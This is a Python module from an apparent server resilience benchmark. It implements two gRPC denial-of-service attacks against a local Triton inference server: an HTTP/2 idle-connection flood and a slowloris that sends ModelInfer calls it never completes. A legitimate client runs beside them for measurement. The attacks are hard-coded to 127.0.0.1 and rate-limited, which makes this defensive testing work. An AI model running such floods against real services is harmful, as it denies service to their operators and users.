"""gRPC attacks for `bench.hostile` (issue 19), run by `bench.attacks` like the HTTP ones: paced,
bounded, to 127.0.0.1 only, stopping by themselves.

- `grpc_idle_connections`: connections to the gRPC port that send the HTTP/2 preface and SETTINGS
  (and acknowledge the server's) and nothing more; up to the server's default cap (1,000) plus
  300, opened at most 200 per second; those the server closes are replaced at the same pace.
- `grpc_slowloris`: 12 connections x 100 `ModelInfer` calls whose message declares 1,000 bytes
  and sends 5 (about 17 KB in all); each call the server ends is replaced by a new one, at most
  50 per second per connection.

`LegitGrpcCalls` is the legitimate gRPC client measured beside them: one `tritonclient.grpc`
channel, opened before the attack, calling ModelInfer at a fixed rate. New clients during a flood
of 3,000 idle connections (each needing a place under the cap) are the `grpc_idle_flood` case
(bench/hostile_grpc_flood.py, issue 45 H18).
"""

from __future__ import annotations

import asyncio
import struct
import threading
import time
from collections import Counter
from typing import Any, Protocol

import numpy as np

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"


class GrpcTarget(Protocol):
    """What the attacks use of `bench.attacks.Context`."""

    grpc_port: int
    stop: asyncio.Event
    counts: Counter[str]

    async def pause(self, seconds: float) -> None: ...


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    # HPACK literal without indexing, new name, no Huffman: every string here is under 127 bytes.
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


_INFER_HEADERS = b"".join(_literal(n, v) for n, v in (
    (":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "x"),
    ("content-type", "application/grpc"), ("te", "trailers")))
_PARTIAL_MESSAGE = b"\x00" + struct.pack(">I", 1000) + b"abcde"


def incomplete_infer(stream: int) -> bytes:
    """A ModelInfer call whose message declares 1,000 bytes and sends 5."""
    return frame(1, 0x4, stream, _INFER_HEADERS) + frame(0, 0, stream, _PARTIAL_MESSAGE)


def _frames(buffer: bytearray) -> list[tuple[int, int, int]]:
    """(type, flags, stream) of every whole frame at the start of `buffer`, removed from it."""
    out = []
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[:3], "big")
        if len(buffer) < 9 + length:
            break
        out.append((buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF))
        del buffer[: 9 + length]
    return out


async def _connect(ctx: GrpcTarget) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, ctx.grpc_port), 5)
    except (OSError, TimeoutError):
        ctx.counts["connect_failed"] += 1
        return None
    writer.write(PREFACE + frame(4, 0, 0))
    return reader, writer


async def grpc_idle_connections(ctx: GrpcTarget, target: int = 1300, per_second: float = 200.0) -> None:
    """Hold up to `target` idle HTTP/2 connections (see the module doc)."""
    held: set[asyncio.Task[None]] = set()

    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        buffer = bytearray()
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    ctx.counts["closed_by_server"] += 1
                    return
                buffer += data
                for kind, flags, _ in _frames(buffer):
                    if kind == 4 and not flags & 1:
                        writer.write(frame(4, 1, 0))  # acknowledge the server's SETTINGS
                    elif kind == 7:
                        ctx.counts["goaway"] += 1
        except OSError:
            ctx.counts["reset_by_server"] += 1
        finally:
            writer.transport.abort()

    try:
        while not ctx.stop.is_set():
            if len(held) < target:
                opened = await _connect(ctx)
                if opened is not None:
                    ctx.counts["connections"] += 1
                    task = asyncio.get_running_loop().create_task(hold(*opened))
                    held.add(task)
                    task.add_done_callback(held.discard)
                    ctx.counts["held_max"] = max(ctx.counts["held_max"], len(held))
            await ctx.pause(1.0 / per_second)
    finally:
        for task in list(held):
            task.cancel()
        await asyncio.gather(*held, return_exceptions=True)


async def grpc_slowloris(ctx: GrpcTarget, connections: int = 12, calls: int = 100) -> None:
    """`connections` x `calls` ModelInfer calls whose message never completes (see the module doc)."""

    async def worker() -> None:
        while not ctx.stop.is_set():
            opened = await _connect(ctx)
            if opened is None:
                await ctx.pause(0.5)
                continue
            reader, writer = opened
            ctx.counts["connections"] += 1
            next_stream = 1
            buffer = bytearray()
            try:
                for _ in range(calls):
                    writer.write(incomplete_infer(next_stream))
                    next_stream += 2
                ctx.counts["calls"] += calls
                owed = 0  # calls the server ended, to be replaced at most 50 per second
                while not ctx.stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(65536), 0.1)
                    except TimeoutError:
                        data = None
                    if data == b"":
                        ctx.counts["closed_by_server"] += 1
                        break
                    buffer += data or b""
                    for kind, flags, stream in _frames(buffer):
                        if kind == 4 and not flags & 1:
                            writer.write(frame(4, 1, 0))
                        elif kind == 1 and flags & 1:  # the server answered: close our side too
                            writer.write(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
                            ctx.counts["calls_answered_by_server"] += 1
                            owed += 1
                        elif kind == 3:
                            ctx.counts["calls_reset_by_server"] += 1
                            owed += 1
                        elif kind == 7:
                            ctx.counts["goaway"] += 1
                    if owed and next_stream < 2**31 - 1000:
                        for _ in range(min(owed, 5)):
                            writer.write(incomplete_infer(next_stream))
                            next_stream += 2
                        ctx.counts["calls"] += min(owed, 5)
                        owed -= min(owed, 5)
                        await ctx.pause(0.1)
            except OSError:
                ctx.counts["reset_by_server"] += 1
            finally:
                writer.transport.abort()
            await ctx.pause(0.5)

    await asyncio.gather(*(worker() for _ in range(connections)))


class LegitGrpcCalls:
    """A legitimate `tritonclient.grpc` client calling the digits model at `rate_per_s` in a
    thread, on one channel opened at `start`; counts successes and errors by status."""

    def __init__(self, grpc_url: str, rate_per_s: float = 10.0) -> None:
        import tritonclient.grpc as triton  # only the gRPC attacks need it

        self._client = triton.InferenceServerClient(grpc_url)
        self._input = triton.InferInput("input", [1, 1, 8, 8], "FP32")
        self._input.set_data_from_numpy(np.zeros((1, 1, 8, 8), np.float32))
        self._interval_s = 1.0 / rate_per_s
        self.counts: Counter[str] = Counter()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._client.infer("digits", [self._input], client_timeout=30)  # the channel is connected now

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> dict[str, Any]:
        """Stop calling; the counts ("ok" and one entry per error status)."""
        self._stop.set()
        self._thread.join(60)
        self._client.close()
        return dict(self.counts)

    def _run(self) -> None:
        from tritonclient.utils import InferenceServerException

        while not self._stop.is_set():
            started = time.monotonic()
            try:
                self._client.infer("digits", [self._input], client_timeout=10)
                self.counts["ok"] += 1
            except InferenceServerException as exc:
                self.counts[str(exc.status())] += 1
            self._stop.wait(max(0.0, self._interval_s - (time.monotonic() - started)))
